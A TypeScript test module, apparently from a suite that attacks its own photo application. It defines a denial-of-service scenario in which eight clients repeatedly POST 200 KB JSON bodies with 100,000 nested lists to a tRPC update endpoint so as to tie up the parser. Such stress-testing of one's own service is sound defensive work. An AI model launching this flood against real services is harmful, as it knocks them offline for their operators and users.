import type { Attack } from '../attack.ts'

const clients = 8
const depth = 100_000

/** Bodies of nested lists, each of which took a tenth of a second to parse. */
export const nestedJson: Attack = {
  name: 'S-19b',
  what: `${clients} clients at one address send bodies of 200 KB with ${depth} lists in each other`,
  isQuick: true,
  async prepare({ attacker, photos }) {
    const nested = '['.repeat(depth) + ']'.repeat(depth)
    const body = Buffer.from(`{"id":${JSON.stringify(photos[0])},"tags":${nested}}`)
    const headers = { 'Content-Type': 'application/json' }
    return async (signal) => {
      const client = async () => {
        while (!signal.aborted)
          await attacker.send({ method: 'POST', path: '/trpc/photos.update', headers, body, signal })
      }
      await Promise.all(Array.from({ length: clients }, client))
    }
  },
}
